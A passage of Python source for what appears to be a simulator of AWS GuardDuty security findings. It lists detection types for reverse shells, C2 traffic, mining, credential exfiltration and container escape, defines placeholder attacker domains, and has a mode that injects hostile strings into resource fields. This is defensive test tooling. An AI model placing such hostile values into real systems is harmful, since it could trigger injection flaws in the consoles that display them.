    _t("Trojan:Lambda/DropPoint", "Lambda", 5.0, NETWORK_CONNECTION, "LambdaNetworkLogs",
       "Lambda function {function} is communicating with a known drop point for stolen data.",
       "Lambda function {function} is communicating with IP address {remote_ip} of a remote host known "
       "to hold credentials and other stolen data captured by malware.", direction="OUTBOUND", port=443,
       threat_list="ProofPoint"),
    _t("UnauthorizedAccess:Lambda/MaliciousIPCaller.Custom", "Lambda", 5.0, NETWORK_CONNECTION,
       "LambdaNetworkLogs",
       "Lambda function {function} is communicating with an IP address on a custom threat list.",
       "Lambda function {function} is communicating with IP address {remote_ip}, which is on the custom "
       "threat list.", direction="OUTBOUND", port=443, threat_list="CustomThreatList"),
    _t("UnauthorizedAccess:Lambda/TorClient", "Lambda", 8.0, NETWORK_CONNECTION, "LambdaNetworkLogs",
       "Lambda function {function} is communicating with a Tor Entry node.",
       "Lambda function {function} is communicating with IP address {remote_ip} which is a Tor Entry "
       "node.", direction="OUTBOUND", port=9001, actor="tor", threat_list="TorEntryNodes"),
    # --- Runtime Monitoring: the GuardDuty security agent on EC2, ECS and EKS -----------------------
    _t("Backdoor:Runtime/C&CActivity.B!DNS", "Instance", 8.0, DNS_REQUEST, "RuntimeMonitoring",
       "Command and Control server domain name queried by a process on EC2 instance {instance_id}.",
       "Process {process} on {target} is querying a domain name associated with a known Command & "
       "Control server.", runtime=True, domain="c2", behaviour="c2", threat_list="ProofPoint"),
    _t("CryptoCurrency:Runtime/BitcoinTool.B", "EKSCluster", 8.0, NETWORK_CONNECTION, "RuntimeMonitoring",
       "A container in EKS cluster {cluster} is communicating with Bitcoin mining pools.",
       "Process {process} in {target} is communicating with IP address {remote_ip} that is associated "
       "with Bitcoin-related activity.", runtime=True, direction="OUTBOUND", port=3333,
       behaviour="miner", threat_list="Amazon"),
    _t("CryptoCurrency:Runtime/BitcoinTool.B!DNS", "ECSCluster", 8.0, DNS_REQUEST, "RuntimeMonitoring",
       "A task in ECS cluster {cluster} queried a Bitcoin-related domain name.",
       "Process {process} in {target} is querying a domain name that is associated with Bitcoin-related "
       "activity.", runtime=True, domain="mining", behaviour="miner", threat_list="Amazon"),
    _t("DefenseEvasion:Runtime/FilelessExecution", "Container", 5.0, RUNTIME, "RuntimeMonitoring",
       "A process is executing code from memory in {target}.",
       "Process {process} in {target} is executing code from memory without a file on disk.",
       behaviour="fileless"),
    _t("DefenseEvasion:Runtime/ProcessInjection.Proc", "Instance", 8.0, RUNTIME, "RuntimeMonitoring",
       "Process injection through the proc filesystem was detected on {target}.",
       "Process {process} on {target} wrote to the memory of another process through the proc "
       "filesystem.", behaviour="injection"),
    _t("Execution:Runtime/MaliciousFileExecuted", "Instance", 8.0, RUNTIME, "RuntimeMonitoring",
       "A known malicious executable file was executed on {target}.",
       "Process {process} on {target} executed a file that GuardDuty identified as malware.",
       behaviour="malicious_file"),
    _t("Execution:Runtime/NewBinaryExecuted", "Container", 5.0, RUNTIME, "RuntimeMonitoring",
       "A newly created or recently modified binary file was executed in {target}.",
       "Process {process} in {target} executed a binary file that was created or modified after the "
       "container started.", behaviour="new_binary"),
    _t("Execution:Runtime/NewLibraryLoaded", "ECSCluster", 5.0, RUNTIME, "RuntimeMonitoring",
       "A newly created or recently modified library was loaded by a process in {target}.",
       "Process {process} in {target} loaded a library that was created or modified after the task "
       "started.", behaviour="library"),
    _t("Execution:Runtime/ReverseShell", "Instance", 8.0, RUNTIME, "RuntimeMonitoring",
       "A reverse shell was created on {target}.",
       "Process {process} on {target} created a reverse shell, which gives a remote actor interactive "
       "access.", behaviour="reverse_shell"),
    _t("Execution:Runtime/SuspiciousCommand", "EKSCluster", 8.0, RUNTIME, "RuntimeMonitoring",
       "A suspicious command was executed in {target}.",
       "Process {process} in {target} executed a command that matches patterns used by attackers.",
       behaviour="suspicious_command"),
    _t("Execution:Runtime/SuspiciousTool", "EKSCluster", 8.0, RUNTIME, "RuntimeMonitoring",
       "A suspicious tool was executed in {target}.",
       "Process {process} in {target} is a tool commonly used in offensive security engagements.",
       behaviour="tool"),
    _t("Impact:Runtime/CryptoMinerExecuted", "Instance", 8.0, RUNTIME, "RuntimeMonitoring",
       "A cryptocurrency mining binary was executed on {target}.",
       "Process {process} on {target} is a known cryptocurrency miner.", behaviour="miner"),
    _t("Persistence:Runtime/SuspiciousCommand", "ECSCluster", 5.0, RUNTIME, "RuntimeMonitoring",
       "A suspicious command was executed to gain persistence in {target}.",
       "Process {process} in {target} executed a command that installs a persistence mechanism.",
       behaviour="suspicious_command"),
    _t("PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", "EKSCluster", 5.0, RUNTIME,
       "RuntimeMonitoring",
       "A container mounted a host directory in {target}.",
       "Process {process} in {target} mounted a directory of the host file system into the container.",
       behaviour="host_mount"),
    _t("PrivilegeEscalation:Runtime/DockerSocketAccessed", "Container", 5.0, RUNTIME, "RuntimeMonitoring",
       "A process accessed the Docker socket in {target}.",
       "Process {process} in {target} accessed the Docker socket, which allows it to control the "
       "container runtime on the host.", behaviour="docker_socket"),
    _t("PrivilegeEscalation:Runtime/RuncContainerEscape", "ECSCluster", 8.0, RUNTIME, "RuntimeMonitoring",
       "A container escape attempt through runC was detected in {target}.",
       "Process {process} in {target} modified the runC binary, which is used to escape a container.",
       behaviour="runc"),
    # --- Malware Protection: EBS volume scans and S3 object scans ----------------------------------
    _t("Execution:Container/MaliciousFile", "Container", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in {target}.",
       "A malicious file was detected by a GuardDuty malware scan of the volumes attached to {target}.",
       scan="ebs"),
    _t("Execution:EC2/MaliciousFile", "Instance", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected on EC2 instance {instance_id}.",
       "A malicious file was detected by a GuardDuty malware scan of the EBS volumes attached to EC2 "
       "instance {instance_id}.", scan="ebs"),
    _t("Execution:EC2/SuspiciousFile", "Instance", 5.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Suspicious file detected on EC2 instance {instance_id}.",
       "A suspicious file, such as a tool that can be used for malicious purposes, was detected on the "
       "EBS volumes attached to EC2 instance {instance_id}.", scan="ebs", suspicious=True),
    _t("Execution:ECS/MaliciousFile", "ECSCluster", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in {target}.",
       "A malicious file was detected by a GuardDuty malware scan of the volumes used by {target}.",
       scan="ebs"),
    _t("Execution:Kubernetes/MaliciousFile", "EKSCluster", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in {target}.",
       "A malicious file was detected by a GuardDuty malware scan of the volumes used by {target}.",
       scan="ebs"),
    # Malware Protection for S3: one type (https://docs.aws.amazon.com/guardduty/latest/ug/
    # gdu-malware-protection-s3-finding-types.html), resource type S3Object.
    _t("Object:S3/MaliciousFile", "S3Object", 8.0, MALWARE_SCAN, "S3MalwareProtection",
       "Malicious file detected in S3 object {object_key} of bucket {bucket}.",
       "GuardDuty Malware Protection for S3 detected a malicious file in S3 object {object_key} uploaded "
       "to bucket {bucket}.", scan="s3"),
    # --- Malware Protection for AWS Backup: one finding per scan that found malware, never updated
    # (https://docs.aws.amazon.com/guardduty/latest/ug/findings-malware-protection-backup.html). Severity
    # "varies depending on the detected threat"; High is used here.
    _t("Execution:EC2/MaliciousFile!Snapshot", "EBSSnapshot", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in EBS snapshot {snapshot}.",
       "A GuardDuty Malware Protection for Backup scan detected one or more malicious files in EBS "
       "snapshot {snapshot}.", scan="backup", backup="snapshot"),
    _t("Execution:EC2/MaliciousFile!AMI", "EC2Image", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in EC2 AMI {image}.",
       "A GuardDuty Malware Protection for Backup scan detected one or more malicious files in EC2 AMI "
       "{image}.", scan="backup", backup="image"),
    _t("Execution:EC2/MaliciousFile!RecoveryPoint", "RecoveryPoint", 8.0, MALWARE_SCAN, "EbsMalwareProtection",
       "Malicious file detected in EC2 recovery point {recovery_point}.",
       "A GuardDuty Malware Protection for Backup scan detected one or more malicious files in EC2 "
       "recovery point {recovery_point} of backup vault {vault}.", scan="backup", backup="ec2_recovery_point"),
    _t("Execution:S3/MaliciousFile!RecoveryPoint", "RecoveryPoint", 8.0, MALWARE_SCAN, "S3MalwareProtection",
       "Malicious file detected in S3 recovery point {recovery_point}.",
       "A GuardDuty Malware Protection for Backup scan detected one or more malicious files in S3 "
       "recovery point {recovery_point} of backup vault {vault}.", scan="backup", backup="s3_recovery_point"),
    # --- AI Protection: Bedrock and SageMaker AI invocations seen in CloudTrail
    # (https://docs.aws.amazon.com/guardduty/latest/ug/findings-ai-protection.html): "The Resource type for
    # these findings is AccessKey"; AnomalousModelInvocation and CostHarvesting carry resource.modelDetails,
    # PromptInjection.Direct resource.bedrockGuardrailDetails. Severities are the simulator's choice (Medium).
    _t("Impact:IAMUser/AnomalousModelInvocation", "AccessKey", 5.0, AWS_API_CALL, "AiProtection",
       "Principal {user} invoked model {model} in an anomalous way.",
       "APIs used to invoke AI models were called by principal {user} under unusual circumstances; "
       "models invoked: {model}.", api="InvokeModel", service="bedrock.amazonaws.com", ai="models"),
    _t("Impact:IAMUser/CostHarvesting", "AccessKey", 5.0, AWS_API_CALL, "AiProtection",
       "Principal {user} invoked model {model} in a way that may indicate cost harvesting.",
       "Principal {user} made an unusual volume of model invocations of {model}, a pattern of stolen "
       "credentials used to run AI workloads at the account's expense.",
       api="InvokeModelWithResponseStream", service="bedrock.amazonaws.com", ai="models"),
    _t("Impact:IAMUser/PromptInjection.Direct", "AccessKey", 5.0, AWS_API_CALL, "AiProtection",
       "A Bedrock guardrail intervened on a prompt injection attempt by principal {user}.",
       "Bedrock guardrail {guardrail} intervened on the input of a model invocation by principal {user}: "
       "the prompt matched a prompt attack filter.", api="Converse", service="bedrock.amazonaws.com",
       ai="guardrail"),
    # --- Custom Detection Rules: prebuilt rules the administrator associates with accounts; findings are
    # named Tactic:Service/Technique and carry the rule in Finding.CustomDetectionRuleName (botocore model)
    # (https://docs.aws.amazon.com/guardduty/latest/ug/findings-custom-detection-rules.html).
    _t("DefenseImpairment:EC2/DisableOrModifyTools", "AccessKey", 8.0, AWS_API_CALL, "CloudTrail",
       "VPC flow logs were deleted by principal {user}.",
       "Custom detection rule {rule} matched: principal {user} called {api}, which weakens the account's "
       "defences.", api="DeleteFlowLogs", service="ec2.amazonaws.com", rule="VPCFlowLogsDeleted"),
    _t("CredentialAccess:EC2/UnsecuredCredentials", "AccessKey", 5.0, AWS_API_CALL, "CloudTrail",
       "The password of an EC2 instance was retrieved by principal {user}.",
       "Custom detection rule {rule} matched: principal {user} called {api} to retrieve an EC2 instance's "
       "administrator password.", api="GetPasswordData", service="ec2.amazonaws.com",
       rule="EC2PasswordDataRetrieved"),
    # --- Extended Threat Detection: attack sequences, Critical, details in Service.Detection.Sequence
    # (https://docs.aws.amazon.com/guardduty/latest/ug/guardduty-attack-sequence-finding-types.html).
    _t("AttackSequence:EC2/CompromisedInstanceGroup", "Instance", 9.0, ATTACK_SEQUENCE,
       "ExtendedThreatDetection",
       "Potential compromise of a group of EC2 instances indicated by a sequence of actions.",
       "A sequence of {signals} signals indicates that EC2 instance {instance_id} and others in its group "
       "were compromised and used for malicious activity.", sequence="ec2"),
    _t("AttackSequence:ECS/CompromisedCluster", "ECSCluster", 9.0, ATTACK_SEQUENCE,
       "ExtendedThreatDetection",
       "Potential compromise of ECS cluster {cluster} indicated by a sequence of actions.",
       "A sequence of {signals} signals indicates that ECS cluster {cluster} was compromised.",
       sequence="ecs"),
    _t("AttackSequence:EKS/CompromisedCluster", "KubernetesCluster", 9.0, ATTACK_SEQUENCE,
       "ExtendedThreatDetection",
       "Potential compromise of EKS cluster {cluster} indicated by a sequence of actions.",
       "A sequence of {signals} signals indicates that EKS cluster {cluster} was compromised: an actor "
       "gained access, escalated privileges and ran workloads.", sequence="eks"),
    _t("AttackSequence:IAM/CompromisedCredentials", "AccessKey", 9.0, ATTACK_SEQUENCE,
       "ExtendedThreatDetection",
       "Potential credential compromise of principal {user} indicated by a sequence of actions.",
       "A sequence of {signals} signals involving principal {user} indicates possibly compromised AWS "
       "credentials used for discovery, persistence and defense evasion.", sequence="iam"),
    _t("AttackSequence:S3/CompromisedData", "S3Bucket", 9.0, ATTACK_SEQUENCE, "ExtendedThreatDetection",
       "Potential data compromise of S3 bucket {bucket} indicated by a sequence of actions.",
       "A sequence of {signals} signals indicates that data in S3 bucket {bucket} was accessed and "
       "exfiltrated or destroyed with possibly compromised credentials of principal {user}.",
       sequence="s3"),
)

FINDING_TYPES: Mapping[str, FindingType] = {spec.name: spec for spec in _CATALOGUE}

# --- the estate the findings are about ---------------------------------------------------------------
# Names are picked per finding; ids are derived from (account, region, name) so repeated findings
# about "web-frontend-1" hit the same instance id, as they would in a real account.
_INSTANCE_NAMES = ("web-frontend-1", "web-frontend-2", "bastion", "batch-worker", "jenkins-ci", "payments-api")
_INSTANCE_TYPES = ("t3.medium", "m5.large", "c6i.xlarge", "m6g.large", "r6i.2xlarge")
_USER_NAMES = ("alice.admin", "ci-deployer", "bob.dev", "terraform", "data-pipeline")
_ROLE_NAMES = ("web-frontend-role", "batch-worker-role", "jenkins-ci-role")
_BUCKET_PATTERNS = ("{account}-cloudtrail-logs", "customer-uploads-{account}", "analytics-exports-{account}",
                    "static-site-{account}", "db-backups-{account}")
_EKS_CLUSTERS = ("prod-eks", "staging-eks", "data-eks")
_ECS_CLUSTERS = ("prod-services", "batch-jobs", "internal-tools")
_DB_INSTANCES = ("orders-db", "customers-db", "inventory-db")
_FUNCTIONS = ("thumbnail-resizer", "invoice-mailer", "webhook-relay", "nightly-report")
_TRAILS = ("org-trail", "management-events", "security-audit")
# Bedrock model ids (Bedrock User Guide, "Supported foundation models"); SageMaker AI endpoints are invoked by name.
_AI_MODELS = ("anthropic.claude-3-5-sonnet-20240620-v1:0", "amazon.titan-text-express-v1",
              "meta.llama3-1-70b-instruct-v1:0", "mistral.mistral-large-2407-v1:0")
_IMAGES = ("public.ecr.aws/nginx/nginx:1.25", "registry.example.com/payments/api:4.2.1",
           "registry.example.com/batch/worker:2024.06", "public.ecr.aws/docker/library/python:3.12-slim")

# (country name, ISO code, city, lat, lon)
_LOCATIONS = (
    ("Netherlands", "NL", "Amsterdam", 52.3759, 4.8975),
    ("Germany", "DE", "Frankfurt am Main", 50.1188, 8.6843),
    ("Brazil", "BR", "Sao Paulo", -23.5475, -46.6361),
    ("Russia", "RU", "Moscow", 55.7522, 37.6156),
    ("China", "CN", "Shanghai", 31.2222, 121.4581),
    ("United States", "US", "Ashburn", 39.0437, -77.4875),
    ("Romania", "RO", "Bucharest", 44.4323, 26.1063),
    ("Singapore", "SG", "Singapore", 1.2897, 103.8501),
    ("Vietnam", "VN", "Hanoi", 21.0245, 105.8412),
)
# (ASN, AsnOrg, Isp) from the documentation ASN block of RFC 5398.
_HOSTING_ORGS = (
    ("64496", "EXAMPLE-HOSTING-AS", "Example Hosting Ltd"),
    ("64497", "EXAMPLE-VPS-NETWORK", "Example VPS Networks"),
    ("64498", "EXAMPLE-BROADBAND", "Example Broadband Co"),
    ("64499", "EXAMPLE-CLOUD-AS", "Example Cloud Services"),
)
_TOR_ORG = ("64500", "EXAMPLE-TOR-EXIT", "Example Privacy Network")

_USER_AGENTS = (
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-18-amd64 exe/x86_64.debian.12 prompt/off command/s3.ls",
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.12.2",
    "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64 api/iam#1.31.1",
    "Terraform/1.7.4 (+https://www.terraform.io) terraform-provider-aws/5.40.0",
)
_KALI_AGENT = "aws-cli/1.22.34 Python/3.9.12 Linux/6.5.0-kali3-amd64 botocore/1.24.23"
_BROWSER_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"
_KUBE_AGENTS = ("kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9", "python-requests/2.31.0", "curl/8.5.0")

_DOMAINS = {
    "c2": ("beacon.c2-relay.example.net", "example.net"),
    "mining": ("xmr.pool-mining.example.com", "example.com"),
    "exfil": ("dGhpcyBpcyBzdG9sZW4.exfil.example.org", "example.org"),
    "abused": ("free-hosting.example.com", "example.com"),
    "malicious": ("login-update.example.net", "example.net"),
    "droppoint": ("drop.stolen-data.example.org", "example.org"),
    "rebind": ("169-254-169-254.rebind.example.com", "example.com"),
}
_PORT_NAMES = {22: "SSH", 53: "DNS", 80: "HTTP", 443: "HTTPS", 445: "SMB", 3389: "RDP"}

# The EICAR test file: real GuardDuty malware scans report it under this name and hash.
_EICAR_NAME = "EICAR-Test-File (not a virus)"
_EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"

_INDICATOR_TITLES = {
    "MALICIOUS_IP": "Malicious IP address",
    "TOR_IP": "Tor exit node",
    "ATTACK_TACTIC": "MITRE ATT&CK tactic",
    "ATTACK_TECHNIQUE": "MITRE ATT&CK technique",
    "HIGH_RISK_API": "High-risk API",
    "SUSPICIOUS_PROCESS": "Suspicious process",
}


# The findings each attack-sequence family correlates (its FINDING signals, in the order they happen).
_SEQUENCE_SIGNAL_TYPES = {
    "iam": ("Discovery:IAMUser/AnomalousBehavior", "Persistence:IAMUser/AnomalousBehavior",
            "DefenseEvasion:IAMUser/AnomalousBehavior"),
    "s3": ("Discovery:S3/MaliciousIPCaller", "Exfiltration:S3/AnomalousBehavior", "Impact:S3/AnomalousBehavior.Delete"),
    "eks": ("Discovery:Kubernetes/MaliciousIPCaller", "PrivilegeEscalation:Kubernetes/PrivilegedContainer",
            "CryptoCurrency:Runtime/BitcoinTool.B"),
    "ecs": ("Execution:Runtime/NewBinaryExecuted", "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
            "Impact:Runtime/CryptoMinerExecuted"),
    "ec2": ("UnauthorizedAccess:EC2/SSHBruteForce", "Execution:Runtime/ReverseShell",
            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"),
}


def sequence_signal_types(finding_type: str) -> tuple[str, ...]:
    """The finding types an attack-sequence type's FINDING signals are (empty for any other type)."""
    spec = FINDING_TYPES.get(finding_type)
    if spec is None or spec.action_type != ATTACK_SEQUENCE:
        return ()
    return _SEQUENCE_SIGNAL_TYPES[spec.params["sequence"]]


# The MITRE ATT&CK tactics and techniques each attack-sequence family reports in its SequenceIndicators. AWS
# documents the keys (ATTACK_TACTIC: "one of the MITRE tactics") but not how a technique is spelled; the
# simulator writes ATT&CK's own "ID name" form, and GuardWatch shows whatever text arrives.
_SEQUENCE_TACTICS = {
    "iam": ("Discovery", "Persistence", "Defense Evasion"),
    "s3": ("Discovery", "Exfiltration", "Impact"),
    "eks": ("Discovery", "Privilege Escalation", "Impact"),
    "ecs": ("Execution", "Command and Control", "Impact"),
    "ec2": ("Initial Access", "Execution", "Credential Access"),
}
_SEQUENCE_TECHNIQUES = {
    "iam": ("T1078.004 Valid Accounts: Cloud Accounts", "T1098 Account Manipulation",
            "T1562.008 Impair Defenses: Disable or Modify Cloud Logs"),
    "s3": ("T1619 Cloud Storage Object Discovery", "T1537 Transfer Data to Cloud Account", "T1485 Data Destruction"),
    "eks": ("T1613 Container and Resource Discovery", "T1611 Escape to Host", "T1496 Resource Hijacking"),
    "ecs": ("T1059 Command and Scripting Interpreter", "T1071 Application Layer Protocol", "T1496 Resource Hijacking"),
    "ec2": ("T1110 Brute Force", "T1059.004 Command and Scripting Interpreter: Unix Shell",
            "T1552.005 Unsecured Credentials: Cloud Instance Metadata API"),
}


def _stable_hex(*parts: str, length: int) -> str:
    return hashlib.sha256(":".join(parts).encode()).hexdigest()[:length]


def _stable_upper(*parts: str, length: int) -> str:
    digest = hashlib.sha256(":".join(parts).encode()).digest()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
    return "".join(alphabet[byte % 32] for byte in digest[:length])


def _iso(moment: datetime) -> str:
    """GuardDuty's timestamp spelling: `2024-05-01T12:34:56.789Z`."""
    moment = moment.astimezone(UTC) if moment.tzinfo else moment.replace(tzinfo=UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def _millis(moment: datetime) -> datetime:
    """Drop sub-millisecond precision, as GuardDuty's timestamps carry none."""
    moment = moment.astimezone(UTC) if moment.tzinfo else moment.replace(tzinfo=UTC)
    return moment.replace(microsecond=moment.microsecond // 1000 * 1000)


class _FindingBuilder:
    """Builds one finding; keeps the names used in titles in `self.words`."""

    def __init__(self, rng: random.Random, spec: FindingType, *, account_id: str, region: str,
                 partition: str, hostile: bool, event_time: datetime) -> None:
        self.rng = rng
        self.spec = spec
        self.account = account_id
        self.region = region
        self.partition = partition
        self.hostile = hostile
        self.event_time = event_time
        self.words: dict[str, Any] = {"port": spec.params.get("port", ""), "signals": 0}

    # --- small pieces -------------------------------------------------------------------------------
    def attacker_text(self, normal: str) -> str:
        """A string an attacker controls: hostile payload in hostile mode, else the normal value."""
        return self.rng.choice(HOSTILE_STRINGS) if self.hostile else normal

    def stable(self, kind: str, name: str, length: int = 17) -> str:
        return _stable_hex(self.account, self.region, kind, name, length=length)

    def arn(self, service: str, resource: str, *, region: bool = True, account: bool = True) -> str:
        return (f"arn:{self.partition}:{service}:{self.region if region else ''}:"
                f"{self.account if account else ''}:{resource}")

    def tags(self, name: str, environment: str = "production") -> list[dict]:
        return [
            {"Key": "Name", "Value": self.attacker_text(name)},
            {"Key": "Environment", "Value": environment},
            {"Key": "Owner", "Value": self.attacker_text("platform-team")},
        ]

    def vpc_id(self) -> str:
        return "vpc-" + self.stable("vpc", "main")

    def local_ip(self, name: str) -> str:
        return f"192.0.2.{int(self.stable('ip', name, 4), 16) % 120 + 4}"

    def remote_ip_details(self) -> dict:
        return remote_ip_details(self.rng, tor=self.spec.params.get("actor") == "tor")

    # --- resources ----------------------------------------------------------------------------------
    def instance_details(self) -> dict:
        name = self.rng.choice(_INSTANCE_NAMES)
        instance_id = "i-" + self.stable("instance", name)
        private_ip = self.local_ip(name)
        public_ip = f"192.0.2.{int(self.stable('public-ip', name, 4), 16) % 120 + 130}"
        subnet = "subnet-" + self.stable("subnet", name[:3])
        self.words.update(instance_id=instance_id, target=f"EC2 instance {instance_id}", instance_name=name)
        role = _ROLE_NAMES[int(self.stable("role", name, 2), 16) % len(_ROLE_NAMES)]
        return {
            "AvailabilityZone": f"{self.region}{'abc'[int(self.stable('az', name, 2), 16) % 3]}",
            "IamInstanceProfile": {
                "Arn": self.arn("iam", f"instance-profile/{role}", region=False),
                "Id": "AIPA" + _stable_upper(self.account, role, length=17),
            },
            "ImageDescription": "Amazon Linux 2023 AMI 2023.4.20240416.0 x86_64 HVM kernel-6.1",
            "ImageId": "ami-" + self.stable("ami", "al2023"),
            "InstanceId": instance_id,
            "InstanceState": "running",
            "InstanceType": _INSTANCE_TYPES[int(self.stable("type", name, 2), 16) % len(_INSTANCE_TYPES)],
            "LaunchTime": _iso(self.event_time - timedelta(days=int(self.stable("age", name, 2), 16) % 200 + 1)),
            "NetworkInterfaces": [
                {
                    "Ipv6Addresses": [],
                    "NetworkInterfaceId": "eni-" + self.stable("eni", name),
                    "PrivateDnsName": f"ip-{private_ip.replace('.', '-')}.{self.region}.compute.internal",
                    "PrivateIpAddress": private_ip,
                    "PrivateIpAddresses": [
                        {
                            "PrivateDnsName": f"ip-{private_ip.replace('.', '-')}.{self.region}.compute.internal",
                            "PrivateIpAddress": private_ip,
                        }
                    ],
                    "PublicDnsName": f"ec2-{public_ip.replace('.', '-')}.{self.region}.compute.amazonaws.com",
                    "PublicIp": public_ip,
                    "SecurityGroups": [{"GroupId": "sg-" + self.stable("sg", name), "GroupName": f"{name}-sg"}],
                    "SubnetId": subnet,
                    "VpcId": self.vpc_id(),
                }
            ],
            "ProductCodes": [],
            "Tags": self.tags(name),
        }

    def access_key_details(self) -> dict:
        user_type = self.spec.params.get("user_type", "IAMUser")
        if user_type == "Root":
            user = "Root"
        elif user_type == "AssumedRole":
            user = self.rng.choice(_ROLE_NAMES)
        else:
            user = self.rng.choice(_USER_NAMES)
        self.words.update(user=user, target=f"principal {user}")
        principal_prefix = {"IAMUser": "AIDA", "AssumedRole": "AROA", "Root": ""}[user_type]
        principal = self.account if user_type == "Root" else principal_prefix + _stable_upper(
            self.account, user, length=17)
        if user_type == "AssumedRole":
            principal += f":i-{self.stable('instance', user)}"
        key_prefix = "ASIA" if user_type == "AssumedRole" else "AKIA"
        return {
            "AccessKeyId": key_prefix + _stable_upper(self.account, user, "key", length=16),
            "PrincipalId": principal,
            "UserName": user,
            "UserType": user_type,
        }

    def bucket_name(self) -> str:
        name = self.rng.choice(_BUCKET_PATTERNS).format(account=self.account)
        return self.attacker_text(name)

    def s3_bucket_detail(self, name: str, *, public: bool = False) -> dict:
        self.words.update(bucket=name, target=f"S3 bucket {name}")
        created = _millis(self.event_time - timedelta(days=int(self.stable("bucket", name, 3), 16) % 900 + 30))
        block = {
            "IgnorePublicAcls": not public,
            "RestrictPublicBuckets": not public,
            "BlockPublicAcls": not public,
            "BlockPublicPolicy": not public,
        }
        return {
            "Arn": f"arn:{self.partition}:s3:::{name}",
            "Name": name,
            "Type": "Destination",
            "CreatedAt": created,
            "Owner": {"Id": _stable_hex(self.account, "canonical-id", length=64)},
            "Tags": self.tags(name, environment="production"),
            "DefaultServerSideEncryption": {"EncryptionType": "AES256"},
            "PublicAccess": {
                "PermissionConfiguration": {
                    "BucketLevelPermissions": {
                        "AccessControlList": {"AllowsPublicReadAccess": public, "AllowsPublicWriteAccess": False},
                        "BucketPolicy": {"AllowsPublicReadAccess": public, "AllowsPublicWriteAccess": False},
                        "BlockPublicAccess": dict(block),
                    },
                    "AccountLevelPermissions": {"BlockPublicAccess": dict(block)},
                },
                "EffectivePermission": "PUBLIC" if public else "NOT_PUBLIC",
            },
        }

    def container(self, *, privileged: bool = False, mounts: bool = False) -> dict:
        image = self.attacker_text(self.rng.choice(_IMAGES))
        name = self.attacker_text(self.rng.choice(("api", "worker", "sidecar", "app")))
        self.words["container"] = name
        container = {
            "ContainerRuntime": self.rng.choice(("containerd", "docker")),
            "Id": f"{self.rng.getrandbits(256):064x}",
            "Name": name,
            "Image": image,
            "ImagePrefix": image.rsplit(":", 1)[0] if ":" in image else image,
            "SecurityContext": {"Privileged": privileged, "AllowPrivilegeEscalation": privileged},
        }
        if mounts:
            container["VolumeMounts"] = [{"Name": "host-root", "MountPath": "/host"}]
        return container

    def eks_blocks(self) -> dict:
        name = self.rng.choice(_EKS_CLUSTERS)
        workload_kind = self.spec.params.get("workload")
        pod = self.attacker_text(f"{self.rng.choice(('payments-api', 'worker', 'ingest'))}-"
                                 f"{self.rng.getrandbits(40):010x}"[:24])
        self.words.update(cluster=name, pod=pod)
        container = self.container(privileged=workload_kind == "privileged",
                                   mounts=workload_kind == "sensitive_mount")
        self.words["target"] = f"container {self.words['container']} of pod {pod} in EKS cluster {name}"
        anonymous = self.spec.params.get("k8s_user") == "anonymous"
        user = {
            "Username": "system:anonymous" if anonymous else self.attacker_text(
                f"arn:{self.partition}:sts::{self.account}:assumed-role/{self.rng.choice(_ROLE_NAMES)}/session"),
            "Uid": "" if anonymous else str(uuid.UUID(int=self.rng.getrandbits(128))),
            "Groups": ["system:unauthenticated"] if anonymous else ["system:authenticated"],
        }
        workload = {
            "Name": pod,
            "Type": "pods",
            "Uid": str(uuid.UUID(int=self.rng.getrandbits(128))),
            "Namespace": self.spec.params.get("namespace", "default"),
            "HostNetwork": False,
            "Containers": [container],
        }
        if workload_kind == "sensitive_mount":
            workload["Volumes"] = [{"Name": "host-root", "HostPath": {"Path": "/"}}]
        created = _millis(self.event_time - timedelta(days=int(self.stable("eks", name, 3), 16) % 600 + 10))
        return {
            "EksClusterDetails": {
                "Name": name,
                "Arn": self.arn("eks", f"cluster/{name}"),
                "VpcId": self.vpc_id(),
                "Status": "ACTIVE",
                "Tags": self.tags(name),
                "CreatedAt": created,
            },
            "KubernetesDetails": {"KubernetesUserDetails": user, "KubernetesWorkloadDetails": workload},
            "ContainerDetails": container,
        }

    def ecs_blocks(self) -> dict:
        name = self.rng.choice(_ECS_CLUSTERS)
        family = self.rng.choice(("payments-api", "report-builder", "queue-consumer"))
        task_id = f"{self.rng.getrandbits(128):032x}"
        container = self.container()
        self.words.update(cluster=name, task=task_id,
                          target=f"container {self.words['container']} of task {task_id} in ECS cluster {name}")
        started = _millis(self.event_time - timedelta(minutes=self.rng.randint(5, 600)))
        return {
            "EcsClusterDetails": {
                "Name": name,
                "Arn": self.arn("ecs", f"cluster/{name}"),
                "Status": "ACTIVE",
                "ActiveServicesCount": self.rng.randint(1, 20),
                "RegisteredContainerInstancesCount": self.rng.randint(0, 10),
                "RunningTasksCount": self.rng.randint(1, 60),
                "Tags": self.tags(name),
                "TaskDetails": {
                    "Arn": self.arn("ecs", f"task/{name}/{task_id}"),
                    "DefinitionArn": self.arn("ecs", f"task-definition/{family}:{self.rng.randint(1, 40)}"),
                    "Version": str(self.rng.randint(1, 9)),
                    "TaskCreatedAt": started - timedelta(seconds=20),
                    "StartedAt": started,
                    "StartedBy": f"ecs-svc/{self.rng.getrandbits(60):019d}"[:27],
                    "Containers": [container],
                    "Group": f"service:{family}",
                    "LaunchType": self.rng.choice(("FARGATE", "EC2")),
                },
            },
            "ContainerDetails": container,
        }

    def rds_blocks(self) -> dict:
